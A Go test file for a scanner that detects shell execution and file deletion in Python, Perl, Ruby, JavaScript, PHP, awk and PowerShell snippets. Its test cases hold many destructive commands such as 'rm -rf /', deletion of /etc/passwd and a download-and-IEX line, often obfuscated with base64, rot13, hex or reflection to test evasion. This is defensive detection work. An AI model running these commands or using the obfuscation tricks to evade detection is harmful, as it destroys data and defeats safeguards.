package parse

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"
)

// srcRender renders a scan as sorted lines: "$ LINE" for a shell line, "?"
// once if anything is dynamic, "rm TARGET" or "rm -r TARGET" for a
// deletion ("~" before a target that is an expression).
func srcRender(s SourceScan) string {
	var lines []string
	for _, l := range s.Shell {
		lines = append(lines, "$ "+l)
	}
	if len(s.Dynamic) > 0 {
		lines = append(lines, "?")
	}
	for _, d := range s.Deletes {
		l := "rm "
		if d.Recursive {
			l += "-r "
		}
		if !d.Static {
			l += "~"
		}
		lines = append(lines, l+d.Target)
	}
	slices.Sort(lines)
	return strings.Join(lines, " | ")
}

type srcCase struct {
	lang Lang
	src  string
	want string // srcRender of the result, lines in any order, joined by " | "
}

func srcWant(w string) string {
	if w == "" {
		return ""
	}
	lines := strings.Split(w, " | ")
	slices.Sort(lines)
	return strings.Join(lines, " | ")
}

const (
	py   = LangPython
	pl   = LangPerl
	rb   = LangRuby
	js   = LangNode
	php  = LangPHP
	awk  = LangAwk
	pwsh = LangPowerShell
)

var srcCases = []srcCase{
	// Python: must find.
	{py, `import os; os.system("rm -rf /")`, "$ rm -rf /"},
	{py, `import os; os.popen('ls -l').read()`, "$ ls -l"},
	{py, `import subprocess; subprocess.run("rm -rf ~", shell=True)`, "$ rm -rf ~"},
	{py, `import subprocess; subprocess.run("git status")`, "$ git status"},
	{py, `import subprocess; subprocess.run(["rm", "-rf", "/"])`, "$ rm -rf /"},
	{py, `import subprocess as sp; sp.call(["rm", "-rf", "/tmp/my dir"])`, "$ rm -rf '/tmp/my dir'"},
	{py, `import subprocess; subprocess.check_call(['rm','-r','x'])`, "$ rm -r x"},
	{py, `import subprocess; subprocess.check_output("id", shell=True)`, "$ id"},
	{py, `import subprocess; subprocess.Popen(["bash", "-c", "rm -rf /"])`, "$ bash -c 'rm -rf /'"},
	{py, `import subprocess; print(subprocess.getoutput("whoami"))`, "$ whoami"},
	{py, `import subprocess; subprocess.getstatusoutput("uname -a")`, "$ uname -a"},
	{py, `import subprocess; subprocess.run(["rm -rf /", "x"], shell=True)`, "$ rm -rf /"},
	{py, `import os; os.execv("/bin/rm", ["rm", "-rf", "/"])`, "$ /bin/rm -rf /"},
	{py, `import os; os.execl("/bin/rm", "rm", "-rf", "/")`, "$ /bin/rm -rf /"},
	{py, `import os; os.execvp("rm", ["rm", "-rf", "/"])`, "$ rm -rf /"},
	{py, `import os; os.spawnlp(os.P_WAIT, "rm", "rm", "-rf", "/")`, "$ rm -rf /"},
	{py, `import os; os.spawnv(os.P_WAIT, "/bin/rm", ["rm", "-rf", "/"])`, "$ /bin/rm -rf /"},
	{py, `import pty; pty.spawn("/bin/bash")`, "$ /bin/bash"},
	{py, `import pty; pty.spawn(["bash", "-c", "id"])`, "$ bash -c id"},
	{py, `import commands; commands.getoutput("ls")`, "$ ls"},
	{py, `__import__('os').system('rm -rf /')`, "$ rm -rf /"},
	{py, `__import__("subprocess").call("reboot", shell=True)`, "$ reboot"},
	{py, `import os as o; o.system("shutdown now")`, "$ shutdown now"},
	{py, `from os import system as s; s("rm -rf /home")`, "$ rm -rf /home"},
	{py, `from os import system; system("ls")`, "$ ls"},
	{py, `from os import *; system("ls")`, "$ ls"},
	{py, `from subprocess import run, PIPE; run(["ls", "-la"], stdout=PIPE)`, "$ ls -la"},
	{py, `from subprocess import (check_output as co); co("date")`, "$ date"},
	{py, `exec("import os; os.system('rm -rf /')")`, "$ rm -rf /"},
	{py, `eval("__import__('os').system('id')")`, "$ id"},
	{py, `import shutil; shutil.rmtree("/var/lib")`, "rm -r /var/lib"},
	{py, `import shutil; shutil.rmtree(path)`, "rm -r ~path"},
	{py, `import os; os.remove("/etc/passwd")`, "rm /etc/passwd"},
	{py, `import os; os.unlink('x'); os.rmdir('d'); os.removedirs('a/b')`, "rm x | rm d | rm a/b"},
	{py, `import os; os.system(cmd)`, "?"},
	{py, `import os, sys; os.system(sys.argv[1])`, "?"},
	{py, `import os; os.system("rm -rf " + d)`, "?"},
	{py, `import os; os.system(f"rm -rf {d}")`, "?"},
	{py, `import subprocess; subprocess.run(["rm", "-rf", path])`, "?"},
	{py, `import os; os.system("rm " + "-rf /")`, "$ rm -rf /"},
	{py, `import os; os.system("rm " "-rf" " /")`, "$ rm -rf /"},
	{py, `import os; c = "rm -rf /"; os.system(c)`, "$ rm -rf /"},
	{py, "import os\ncmd = 'rm'\nos.system(cmd + ' -rf /')", "$ rm -rf /"},
	{py, "import os\nd = '/'\nos.system(f'rm -rf {d}')", "$ rm -rf /"},
	{py, `import os; os.system("rm -rf %s" % "/")`, "$ rm -rf /"},
	{py, `import os; os.system("rm -rf {}".format("/"))`, "$ rm -rf /"},
	{py, `import os; os.system(r"echo a\b")`, `$ echo a\b`},
	{py, `import os; os.system('''rm -rf /''')`, "$ rm -rf /"},
	{py, `import os; os.system("""ls""")`, "$ ls"},
	{py, `import os; os.system("\x72m -rf /")`, "$ rm -rf /"},
	{py, `import os; os.system("\u0072m -rf \057")`, "$ rm -rf /"},
	{py, `import os; os.system("\N{LATIN SMALL LETTER R}m -rf /")`, "$ rm -rf /"},
	{py, `import os; getattr(os, "system")("rm -rf /")`, "$ rm -rf /"},
	{py, `import os; getattr(os, "sys" + "tem")("rm -rf /")`, "$ rm -rf /"},
	{py, `import os; os . system ( "rm -rf /" )`, "$ rm -rf /"},
	{py, "import os\nos.\\\nsystem('ls')", "$ ls"},
	{py, `import os; os.__dict__["system"]("ls")`, "$ ls"},
	{py, `import sys; sys.modules["os"].system("ls")`, "$ ls"},
	{py, `import importlib; importlib.import_module("os").system("ls")`, "$ ls"},
	{py, `import base64; exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oInJtIC1yZiAvIik="))`, "$ rm -rf /"},
	{py, `import base64,os; os.system(base64.b64decode("cm0gLXJmIC8=").decode())`, "$ rm -rf /"},
	{py, `import os; os.system(bytes.fromhex("726d202d7266202f").decode())`, "$ rm -rf /"},
	{py, `import os,codecs; os.system(codecs.decode("ez -es /", "rot13"))`, "$ rm -rf /"},
	{py, `import os; os.system("/ fr- mr"[::-1])`, "$ rm -rf /"},
	{py, `import os; os.system("".join(["r", "m", " -rf /"]))`, "$ rm -rf /"},
	{py, `import os; os.system("".join(map(chr, [114, 109])))`, "$ rm"},
	{py, `import os; os.system(chr(114) + chr(109) + " -rf /")`, "$ rm -rf /"},
	{py, `exec(compile("import os; os.system('ls')", "x", "exec"))`, "$ ls"},
	{py, `exec(code)`, "?"},
	{py, `import os; list(map(os.system, cmds))`, "?"},
	{py, `s = __import__("os").system; s("id")`, "$ id"},
	{py, `import ctypes; ctypes.CDLL(None).system(b"rm -rf /")`, "$ rm -rf /"},
	{py, `ｉｍｐｏｒｔ ｏｓ; ｏｓ.ｓｙｓｔｅｍ("ls")`, "$ ls"},
	{py, `import os; os.system("ls") # os.system("rm -rf /")`, "$ ls"},
	{py, `import asyncio; asyncio.create_subprocess_shell("ls")`, "$ ls"},
	{py, `import subprocess; subprocess.run("bash", input="rm -rf /", text=True)`, "$ bash | $ rm -rf /"},
	{py, "import os\nif x:\n    c = 'ls'\nelse:\n    c = 'rm -rf /'\nos.system(c)", "$ ls | $ rm -rf /"},
	{py, `exec "import os; os.system('ls')"`, "$ ls"},
	{py, `o = __import__; o("os").system("id")`, "$ id"},
	{py, `__builtins__.__dict__["exec"]("import os; os.system('id')")`, "$ id"},
	{py, `globals()["os"].system("id")`, "$ id"},
	{py, `import os; os.popen("sh", "w").write(cmd)`, "$ sh | ?"},
	{py, `import subprocess; subprocess.run(args=["ls", "-l"])`, "$ ls -l"},
	{py, `import os; (lambda: os.system("id"))()`, "$ id"},
	{py, `print(eval("1+2"))`, ""},
	{py, `import os; os.system.__call__("id")`, "$ id"},
	{py, `import os; os.__dict__.get("system")("id")`, "$ id"},
	{py, `import os; vars(os).get("sys" + "tem")("id")`, "$ id"},
	{py, `d = {}; print(d.get("system"))`, ""},
	{py, "import os\nfor c in ['ls', 'rm -rf /']:\n    os.system(c)", "$ ls | $ rm -rf /"},
	{py, "import os, sys\nfor c in sys.argv:\n    os.system(c)", "?"},
	{js, "const {execSync} = require('child_process'); for (const c of ['ls', 'id']) execSync(c)", "$ ls | $ id"},
	{pl, `for my $c ("ls", "id") { system($c) }`, "$ ls | $ id"},
	{pl, `foreach my $f (@ARGV) { unlink $f }`, "rm ~$f"},
	{rb, "for c in ['ls', 'id'] do system(c) end", "$ ls | $ id"},
	{py, `import os; os.__getattribute__("system")("id")`, "$ id"},
	{py, `import os; getattr(os, name)("id")`, "?"},
	{py, `import json; getattr(json, name)(x)`, ""},
	{py, `import os; os.system(command="id")`, "$ id"},
	{py, `import shutil; shutil.rmtree(path="/srv", ignore_errors=True)`, "rm -r /srv"},
	{py, `import os; os.system(**kw)`, "?"},
	{py, `import sys; exec(sys.stdin.read())`, "?"},
	{py, `import sys; print(sys.version)`, ""},
	{py, `import setuptools; setuptools.setup()`, ""},
	{py, "import sys\nfor line in sys.stdin:\n    print(line.strip().upper())", ""},
	// Python: must not find.
	{py, `print('hello')`, ""},
	{py, `import json,sys; print(json.load(sys.stdin)["a"])`, ""},
	{py, `# os.system("rm -rf /")`, ""},
	{py, `print("os.system('rm -rf /')")`, ""},
	{py, `x = "subprocess.run(['rm', '-rf', '/'])"`, ""},
	{py, `"""os.system('rm -rf /')"""`, ""},
	{py, `import platform; print(platform.system())`, ""},
	{py, `import os; print(os.path.join("a", "b"), os.getcwd())`, ""},
	{py, `import re; re.compile("x").sub("", "y")`, ""},
	{py, `import sys; sys.exit(0)`, ""},
	{py, `import http.server; http.server.test()`, ""},
	{py, `d = {"system": 1}; print(d["system"])`, ""},
	{py, `import os; print(os.environ.get("HOME"))`, ""},
	{py, `import yaml, sys; print(yaml.safe_load(sys.stdin))`, ""},

	// Perl.
	{pl, `system("rm -rf /")`, "$ rm -rf /"},
	{pl, `system "rm -rf /"`, "$ rm -rf /"},
	{pl, `system("rm", "-rf", "/")`, "$ rm -rf /"},
	{pl, `system 'rm', '-rf', '/tmp/a b'`, "$ rm -rf '/tmp/a b'"},
	{pl, `exec "reboot"`, "$ reboot"},
	{pl, "print `id`", "$ id"},
	{pl, `my $x = qx{ls -l}; print $x`, "$ ls -l"},
	{pl, `my $x = qx(whoami)`, "$ whoami"},
	{pl, `my $x = qx!uname -a!`, "$ uname -a"},
	{pl, `my $x = qx'date'`, "$ date"},
	{pl, `open(F, "ls |"); print <F>`, "$ ls"},
	{pl, `open(F, "| mail root")`, "$ mail root"},
	{pl, `open(my $f, "-|", "ls", "-l")`, "$ ls -l"},
	{pl, `open(my $f, "-|", "ls -l /")`, "$ ls -l /"},
	{pl, `open(my $fh, "|-", "sh")`, "$ sh | ?"},
	{pl, `use File::Path; File::Path::rmtree("/srv")`, "rm -r /srv"},
	{pl, `use File::Path qw(remove_tree); remove_tree("/srv", {verbose => 1})`, "rm -r /srv"},
	{pl, `unlink "/etc/hosts"`, "rm /etc/hosts"},
	{pl, `unlink glob "*.o"`, "rm ~glob \"*.o\""},
	{pl, `system($ARGV[0])`, "?"},
	{pl, `system("rm -rf $dir")`, "?"},
	{pl, `my $d = "/"; system("rm -rf $d")`, "$ rm -rf /"},
	{pl, `system("rm " . "-rf /")`, "$ rm -rf /"},
	{pl, `my @c = ("rm", "-rf", "/"); system(@c)`, "$ rm -rf /"},
	{pl, `system(qw(rm -rf /))`, "$ rm -rf /"},
	{pl, `system("\x72m -rf /")`, "$ rm -rf /"},
	{pl, `CORE::system("ls")`, "$ ls"},
	{pl, `eval "system('ls')"`, "$ ls"},
	{pl, `use MIME::Base64; system(decode_base64("cm0gLXJmIC8="))`, "$ rm -rf /"},
	{pl, `$_ = "x"; s/x/system("ls")/e`, "$ ls"},
	{pl, `print "done" if system("make") == 0`, "$ make"},
	{pl, `system("ls") or die "failed: $!"`, "$ ls"},
	{pl, `readpipe("id")`, "$ id"},
	{pl, "print 1;\n=pod\nsystem('rm -rf /')\n=cut\nprint 2", ""},
	{pl, `print "hello\n"`, ""},
	{pl, "my $c = 'ls'; print `$c`", "$ ls"},
	{pl, "print `$cmd`", "?"},
	{pl, `print if m/regex1/ and m/regex2/i`, ""},
	{pl, `print $1 if /(0x[\da-f]+)/ig;`, ""},
	{pl, `my %h = (exec => 1); print $h{exec}`, ""},
	{pl, `print join "\n", @INC`, ""},
	{pl, `# system("rm -rf /")`, ""},
	{pl, `print 'system("rm -rf /")'`, ""},
	{pl, `my $n = $#ARGV; print $n`, ""},
	{pl, `while (<>) { s/foo/bar/g; print }`, ""},
	{pl, `print join(",", map { $_ * 2 } 1..3)`, ""},
	{pl, `@a = split /#/, $x; print @a`, ""},
	{pl, `open(F, "<", "/etc/passwd"); print <F>`, ""},
	{pl, `my %h = (system => 1); print $h{system}`, ""},
	{pl, "print <<EOF;\nsystem('rm -rf /')\nEOF\n", ""},

	// Ruby.
	{rb, `system("rm -rf /")`, "$ rm -rf /"},
	{rb, `system "rm", "-rf", "/"`, "$ rm -rf /"},
	{rb, `exec("reboot")`, "$ reboot"},
	{rb, `pid = spawn("sleep 1")`, "$ sleep 1"},
	{rb, "puts `id`", "$ id"},
	{rb, `puts %x(ls -l)`, "$ ls -l"},
	{rb, `puts %x{whoami}`, "$ whoami"},
	{rb, `require "open3"; out, st = Open3.capture2("ls")`, "$ ls"},
	{rb, `require "open3"; Open3.popen3("rm", "-rf", "/") { |i, o, e, t| }`, "$ rm -rf /"},
	{rb, `IO.popen("ls").read`, "$ ls"},
	{rb, `IO.popen(["rm", "-rf", "/"])`, "$ rm -rf /"},
	{rb, `Kernel.system("ls")`, "$ ls"},
	{rb, `Kernel.send(:system, "rm -rf /")`, "$ rm -rf /"},
	{rb, `send("system", "id")`, "$ id"},
	{rb, `method(:system).call("id")`, "$ id"},
	{rb, `require "fileutils"; FileUtils.rm_rf("/var")`, "rm -r /var"},
	{rb, `FileUtils.rm_r "build"`, "rm -r build"},
	{rb, `FileUtils.remove_dir("/opt/x")`, "rm -r /opt/x"},
	{rb, `File.delete("/etc/hosts")`, "rm /etc/hosts"},
	{rb, `system("rm -rf #{dir}")`, "?"},
	{rb, `d = "/"; system("rm -rf #{d}")`, "$ rm -rf /"},
	{rb, `system({"A" => "1"}, "env")`, "$ env"},
	{rb, `system("ls", exception: true)`, "$ ls"},
	{rb, `open("|date") { |f| puts f.read }`, "$ date"},
	{rb, `eval("system('ls')")`, "$ ls"},
	{rb, `require "base64"; system(Base64.decode64("cm0gLXJmIC8="))`, "$ rm -rf /"},
	{rb, `system("/ fr- mr".reverse)`, "$ rm -rf /"},
	{rb, `puts "#{system('ls')}"`, "$ ls"},
	{rb, `puts "hello"`, ""},
	{rb, "Kernel.send(:`, \"id\")", "$ id"},
	{rb, `obj.public_send(:system, "id")`, "$ id"},
	{rb, `IO.send(:popen, "id")`, "$ id"},
	{rb, `Open3.public_send(:capture2, "id")`, "$ id"},
	{rb, `puts RUBY_VERSION`, ""},
	{rb, `require "json"; puts JSON.pretty_generate(JSON.parse(STDIN.read))`, ""},
	{rb, `# system("rm -rf /")`, ""},
	{rb, `puts 'system("rm -rf /")'`, ""},
	{rb, `x = {system: 1}; puts x[:system]`, ""},
	{rb, `puts [1,2,3].map { |x| x * 2 }.inspect`, ""},
	{rb, "=begin\nsystem('rm -rf /')\n=end\nputs 1", ""},
	{rb, `File.open("x") { |f| puts f.read }`, ""},
	{rb, `require "json"; puts JSON.parse(STDIN.read)["a"]`, ""},

	// JavaScript.
	{js, `require('child_process').execSync('rm -rf /')`, "$ rm -rf /"},
	{js, `const cp = require("child_process"); cp.exec("ls -l")`, "$ ls -l"},
	{js, `const {execSync} = require("child_process"); execSync("id")`, "$ id"},
	{js, `const {execSync: run} = require("node:child_process"); run("id")`, "$ id"},
	{js, `const {spawn} = require("child_process"); spawn("rm", ["-rf", "/"])`, "$ rm -rf /"},
	{js, `require("child_process").spawnSync("ls", ["-la"], {stdio: "inherit"})`, "$ ls -la"},
	{js, `require("child_process").execFileSync("/bin/rm", ["-rf", "/"])`, "$ /bin/rm -rf /"},
	{js, `require("child_process").execFile("ls")`, "$ ls"},
	{js, `import {exec} from "child_process"; exec("whoami")`, "$ whoami"},
	{js, `import * as cp from "node:child_process"; cp.execSync("date")`, "$ date"},
	{js, `require("child_process").exec(cmd)`, "?"},
	{js, "require('child_process').execSync(`rm -rf ${dir}`)", "?"},
	{js, "require('child_process').execSync(`ls -l`)", "$ ls -l"},
	{js, "const d = '/'; require('child_process').execSync(`rm -rf ${d}`)", "$ rm -rf /"},
	{js, `require("child_process").execSync("rm " + "-rf /")`, "$ rm -rf /"},
	{js, `require("child_" + "process").execSync("id")`, "$ id"},
	{js, `require("child_process")["execSync"]("id")`, "$ id"},
	{js, `require("child_process").execSync(Buffer.from("cm0gLXJmIC8=", "base64").toString())`, "$ rm -rf /"},
	{js, `require("child_process").execSync(atob("cm0gLXJmIC8="))`, "$ rm -rf /"},
	{js, `require("child_process").execSync(String.fromCharCode(108, 115))`, "$ ls"},
	{js, `require("child_process").execSync("/ fr- mr".split("").reverse().join(""))`, "$ rm -rf /"},
	{js, `const fs = require("fs"); fs.rmSync("/var/x", {recursive: true, force: true})`, "rm -r /var/x"},
	{js, `require("fs").rmSync("a.txt")`, "rm a.txt"},
	{js, `require("fs").rmdirSync("/srv", {recursive: true})`, "rm -r /srv"},
	{js, `fs.rm(dir, {recursive: true}, () => {})`, "rm -r ~dir"},
	{js, `fs.unlinkSync("/etc/passwd")`, "rm /etc/passwd"},
	{js, `eval("require('child_process').execSync('ls')")`, "$ ls"},
	{js, `new Function("require('child_process').execSync('ls')")()`, "$ ls"},
	{js, `process.binding("spawn_sync").spawn(opts)`, "?"},
	{js, "`${require('child_process').execSync('id')}`", "$ id"},
	{js, `\u0065val("require('child_process').execSync('ls')")`, "$ ls"},
	{js, `Bun.spawn(["rm", "-rf", "/"])`, "$ rm -rf /"},
	{js, `new Deno.Command("rm", {args: ["-rf", "/"]}).outputSync()`, "$ rm -rf /"},
	{js, `Deno.removeSync("/x", {recursive: true})`, "rm -r /x"},
	{js, `require("fs-extra").removeSync("/opt")`, "rm -r /opt"},
	{js, `const rimraf = require("rimraf"); rimraf.sync("/srv")`, "rm -r /srv"},
	{js, `require("fs/promises").rm("/var", {recursive: true})`, "rm -r /var"},
	{js, `console.log(1)`, ""},
	{js, `[].constructor.constructor("return process")().mainModule.require("child_process").execSync("id")`, "$ id"},
	{js, `global.process.mainModule.require("child_process").exec("id")`, "$ id"},
	{js, `["ls"].forEach(require("child_process").execSync)`, "?"},
	{js, `console.log(process.version)`, ""},
	{js, `require("child_process").execSync.call(null, "id")`, "$ id"},
	{js, `const cp = require("child_process"); cp.spawnSync.apply(cp, ["rm", ["-rf", "/"]])`, "$ rm -rf /"},
	{js, `require("child_process").execSync.apply(null, args)`, "?"},
	{js, `global["ev" + "al"]("require('child_process').execSync('id')")`, "$ id"},
	{js, `process.mainModule.constructor._load("child_process").execSync("id")`, "$ id"},
	{js, "Bun.$`rm -rf /`", "$ rm -rf /"},
	{js, "await $`ls ${dir}`", "?"},
	{js, `console.log(require("./package.json").version)`, ""},
	{js, `require("fs").writeFileSync("x", "y")`, ""},
	{js, `// require("child_process").execSync("rm -rf /")`, ""},
	{js, `/* execSync("rm -rf /") */ console.log(2)`, ""},
	{js, `console.log("require('child_process').execSync('rm -rf /')")`, ""},
	{js, `const m = /a/.exec("abc"); console.log(m)`, ""},
	{js, `const cp = require("child_process"); const m = /a/.exec(s); const r = re.exec(s); cp.execSync("id")`, "$ id"},
	{js, `import("child_process").then(child => child.exec("id"))`, "$ id"},
	{js, `console.log(JSON.parse(require("fs").readFileSync(0)).a)`, ""},
	{js, `setTimeout(() => console.log(1), 10)`, ""},
	{js, `const x = 10 / 2 / 5; console.log(x)`, ""},
	{js, `x / 2; require("child_process").execSync("rm -rf /"); z = 1 / 3`, "$ rm -rf /"},
	{js, "if (1) /'/.test(\"\"); require(\"child_process\").execSync(\"rm -rf /\") //'", "$ rm -rf /"},
	{js, "function f() {}\n/'/.test(\"\"); require(\"child_process\").execSync(\"id\") //'", "$ id"},
	{js, `const r = (a) / 2; require("child_process").execSync("id"); // / 1`, "$ id"},
	{pl, `my $y = $h{a} / 2; system("id"); my $z = 1 / 3;`, "$ id"},
	{pl, `if ($x) { print "a" } /'/ and system("id"); # '`, "$ id"},
	{rb, `y = x / 2; system("id"); z = 1 / 3`, "$ id"},
	{awk, `{ x = $1 / 2; system("id"); y = 1 / 3 }`, "$ id"},

	// PHP.
	{php, `system("rm -rf /");`, "$ rm -rf /"},
	{php, `echo shell_exec("ls -l");`, "$ ls -l"},
	{php, `exec("whoami", $out);`, "$ whoami"},
	{php, `passthru("id");`, "$ id"},
	{php, `$h = popen("ls", "r");`, "$ ls"},
	{php, `proc_open("date", [], $pipes);`, "$ date"},
	{php, `proc_open(["rm", "-rf", "/"], [], $p);`, "$ rm -rf /"},
	{php, "echo `id`;", "$ id"},
	{php, `SYSTEM("ls");`, "$ ls"},
	{php, `\system("ls");`, "$ ls"},
	{php, `system("rm -rf $dir");`, "?"},
	{php, `$d = "/"; system("rm -rf $d");`, "$ rm -rf /"},
	{php, `system("rm " . "-rf /");`, "$ rm -rf /"},
	{php, `system(base64_decode("cm0gLXJmIC8="));`, "$ rm -rf /"},
	{php, `$f = "system"; $f("id");`, "$ id"},
	{php, `("sys" . "tem")("id");`, "$ id"},
	{php, `call_user_func("system", "id");`, "$ id"},
	{php, `call_user_func_array("system", ["id"]);`, "$ id"},
	{php, `eval('system("ls");');`, "$ ls"},
	{php, `unlink("/etc/passwd");`, "rm /etc/passwd"},
	{php, `pcntl_exec("/bin/rm", ["-rf", "/"]);`, "$ /bin/rm -rf /"},
	{php, `echo "hello";`, ""},
	{php, `// system("rm -rf /");`, ""},
	{php, `# system("rm -rf /");`, ""},
	{php, `echo 'system("rm -rf /")';`, ""},
	{php, `echo json_encode(["a" => 1]);`, ""},
	{php, `$x->system("a");`, ""},
	{php, `array_map("system", $cmds);`, "?"},
	{php, `if (function_exists("exec")) { echo 1; }`, ""},
	{php, `$a = "sys"; $b = "tem"; ($a . $b)("id");`, "$ id"},
	{php, "echo PHP_VERSION;", ""},
	{php, `copy("https://getcomposer.org/installer", "composer-setup.php");`, ""},

	// awk.
	{awk, `BEGIN { system("rm -rf /") }`, "$ rm -rf /"},
	{awk, `{ system("echo " $1) }`, "?"},
	{awk, `BEGIN { "date" | getline d; print d }`, "$ date"},
	{awk, `BEGIN { while (("ls -l" | getline line) > 0) print line }`, "$ ls -l"},
	{awk, `{ print $0 | "sort -u" }`, "$ sort -u"},
	{awk, `BEGIN { print "rm -rf /" | "sh" }`, "$ rm -rf / | $ sh"},
	{awk, `{ print | "sh" }`, "$ sh | ?"},
	{awk, `BEGIN { c = "rm -rf /"; system(c) }`, "$ rm -rf /"},
	{awk, `BEGIN { system("rm " "-rf /") }`, "$ rm -rf /"},
	{awk, `{ print $1 }`, ""},
	{awk, `/system/ { print "system(\"x\")" }`, ""},
	{awk, `{ n += $2 } END { print n / NR }`, ""},
	{awk, `# system("rm -rf /")`, ""},

	// PowerShell.
	{pwsh, `Invoke-Expression "rm -rf /"`, "$ rm -rf /"},
	{pwsh, `iex 'ls -l'`, "$ ls -l"},
	{pwsh, `IEX("whoami")`, "$ whoami"},
	{pwsh, `Start-Process cmd -ArgumentList "/c del /s /q C:\"`, `$ cmd /c del /s /q C:\`},
	{pwsh, `Remove-Item -Recurse -Force C:\Windows`, `rm -r C:\Windows`},
	{pwsh, `Remove-Item C:\x.txt`, `rm C:\x.txt`},
	{pwsh, `rm -r -fo C:\Users`, `$ rm -r -fo 'C:\Users'`},
	{pwsh, `ri -r C:\Users`, `rm -r C:\Users`},
	{pwsh, `del -Path:C:\x -Force`, `rm C:\x`},
	{pwsh, `cmd /c "rd /s /q C:\"`, `$ cmd /c 'rd /s /q C:\'`},
	{pwsh, `git status; Get-ChildItem`, "$ git status"},
	{pwsh, `Get-ChildItem | Where-Object { $_.Length -gt 1 }`, ""},
	{pwsh, `Write-Host "rm -rf /"`, ""},
	{pwsh, `# iex "rm -rf /"`, ""},
	{pwsh, `$c = "rm -rf /"; iex $c`, "$ rm -rf /"},
	{pwsh, `iex $env:X`, "?"},
	{pwsh, `iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("cm0gLXJmIC8=")))`, "$ rm -rf /"},
	{pwsh, `powershell -EncodedCommand cgBtACAALQByAGYAIAAvAA==`, "$ powershell -EncodedCommand 'cgBtACAALQByAGYAIAAvAA==' | $ rm -rf /"},
	{pwsh, `[System.Diagnostics.Process]::Start("cmd", "/c whoami")`, "$ cmd /c whoami"},
	{pwsh, `[IO.Directory]::Delete("C:\data", $true)`, `rm -r C:\data`},
	{pwsh, `iex “rm -rf /”`, "$ rm -rf /"},
	{pwsh, `"rm -rf /" | iex`, "$ rm -rf /"},
	{pwsh, `Get-Content x.ps1 | iex`, "?"},
	{pwsh, `& ("i" + "ex") "id"`, "$ id"},
	{pwsh, `iex (New-Object Net.WebClient).DownloadString("http://x")`, "?"},
	{pwsh, `Start-Process -FilePath rm -ArgumentList "-rf","/"`, "$ rm -rf /"},
	{pwsh, `Remove-Item -Path /etc -Recurse`, "rm -r /etc"},
	{pwsh, `Get-Process | Sort-Object CPU | Select-Object -First 5`, ""},
	{pwsh, `$PSVersionTable.PSVersion`, ""},
	{pwsh, `. ("ie" + "x") "id"`, "$ id"},
	{pwsh, `[ScriptBlock]::Create("id").Invoke()`, "$ id"},
	{pwsh, `$ExecutionContext.InvokeCommand.InvokeScript("id")`, "$ id"},
	{pwsh, `. ./profile.ps1`, "$ ./profile.ps1"},
	{pwsh, `Set-Alias x Invoke-Expression; x "id"`, "$ id"},
	{pwsh, `sal -Name run -Value iex; run 'id'`, "$ id"},
	{pwsh, `&'iex' 'id'`, "$ id"},
	{pwsh, `$f = 'iex'; & $f 'id'`, "$ id"},
	{pwsh, `&(gcm i*x) 'id'`, "?"},
	{pwsh, `InVoKe-ExPrEsSiOn 'id'`, "$ id"},
	// Heredocs, multi-line code and more shapes.
	{pl, "print <<\"E\";\n@{[ system('id') ]}\nE\n", "$ id"},
	{rb, "x = <<~EOS\n  #{`id`}\nEOS\n", "$ id"},
	{rb, "system <<~EOS\n  ls -l\nEOS\n", "$ ls -l\n"},
	{rb, "x = <<~`CMD`\n  id\nCMD\n", "$ id\n"},
	{php, "$x = <<<EOT\nrm -rf /\nEOT;\nsystem($x);", "$ rm -rf /"},
	{php, "$x = <<<'EOT'\nrm -rf $y\nEOT;\nsystem($x);", "$ rm -rf $y"},
	{py, "import os\ndef f(c):\n    os.system(c)\nf('ls')", "$ ls"},
	{py, "import os\ndef f(c):\n    os.system(c)\nf('ls')\nf(input())", "$ ls | ?"},
	{py, "import os\ndef f(c):\n    os.system(c)", "?"},
	{py, "import subprocess\ndef run(cmd, check=True):\n    return subprocess.run(cmd, shell=True, check=check)\nprint(run('git status').stdout)\nrun(cmd='ls')", "$ git status | $ ls"},
	{py, "import os\nclass R:\n    def go(self, c):\n        os.system(c)\nR().go('id')", "$ id"},
	{py, "import os\ndef f(c='rm -rf /'):\n    os.system(c)\nf()", "$ rm -rf /"},
	{py, "import os, sys\ndef f(c):\n    os.system(c)\nf('ls')\nlist(map(f, sys.argv))", "?"},
	{py, "import os\ndef f(c):\n    os.system(c)\nf('ls')\nexec('f(input())')", "?"},
	{py, "import os\ndef f(c):\n    os.system(c)\n    f(c + 'x')\nf('ls')", "$ ls | ?"},
	{py, "import os\n@app.route('/')\ndef f(c):\n    os.system(c)\nf('ls')", "?"},
	{py, "import os\ndef f(c):\n    os.system(c)\nf('ls')\nglobals()['f'](input())", "?"},
	{js, "const {execSync} = require('child_process')\nfunction sh(c) { return execSync(c).toString() }\nsh('ls'); sh('id')", "$ ls | $ id"},
	{js, "const {execSync} = require('child_process')\nconst sh = (c) => execSync(c)\nsh('ls')", "$ ls"},
	{rb, "def sh(c)\n  system(c)\nend\nsh('ls')", "$ ls"},
	{php, "function sh($c) { system($c); }\nsh('ls');", "$ ls"},
	{py, "import subprocess\nsubprocess.run(\n    ['rm', '-rf', '/'],\n    check=True,\n)", "$ rm -rf /"},
	{py, "from subprocess import *\ncall('id', shell=True)", "$ id"},
	{py, "import os; os.system('rm -rf /' if 1 else 'ls')", "?"},
	{js, "const cp = require('child_process')\ncp.execSync('id')\n", "$ id"},
	{js, "require('child_process').exec('id', (e, out) => console.log(out))", "$ id"},
	{js, "const {exec} = require('child_process'); exec(`ls ${'-l'}`)", "$ ls -l"},
	{js, "import('child_process').then(cp => cp.execSync('id'))", "$ id"},
	{js, "(await import('node:child_process')).execSync('id')", "$ id"},
	{pl, "system(\"rm\", \"-rf\", $ARGV[0])", "?"},
	{pl, "my $cmd = join(' ', 'rm', '-rf', '/'); system $cmd;", "$ rm -rf /"},
	{pl, "exec {'/bin/sh'} 'sh', '-c', 'id'", "?"},
	{rb, "Dir.glob('*').each { |f| FileUtils.rm_rf(f) }", "rm -r ~f"},
	{rb, "`rm -rf #{ARGV[0]}`", "?"},
	{awk, "BEGIN { cmd = \"ls\"; while ((cmd | getline l) > 0) print l; close(cmd) }", "$ ls"},
	{awk, "{ cmd = \"wc -l \" $1; cmd | getline n }", "?"},
	{pwsh, "Get-ChildItem -Recurse | Remove-Item -Force", "rm ~(pipeline)"},
	{pwsh, "if ($true) { rm -rf / }", "$ rm -rf /"},
	{pwsh, "foreach ($f in ls) { Remove-Item $f -Recurse }", "rm -r ~$f"},
	{php, "<?php system('id'); ?>", "$ id"},
	{php, "$o = `ls -l $dir`;", "?"},
	// Everyday payloads that run nothing.
